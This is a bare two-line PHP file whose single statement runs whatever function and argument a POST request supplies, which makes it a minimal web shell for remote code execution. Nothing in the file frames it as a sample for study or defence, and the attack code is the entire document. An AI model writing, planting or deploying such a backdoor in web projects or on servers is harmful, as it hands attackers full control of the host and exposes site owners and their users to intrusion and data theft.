<?php
call_user_func($_POST['fn'], $_POST['arg']);
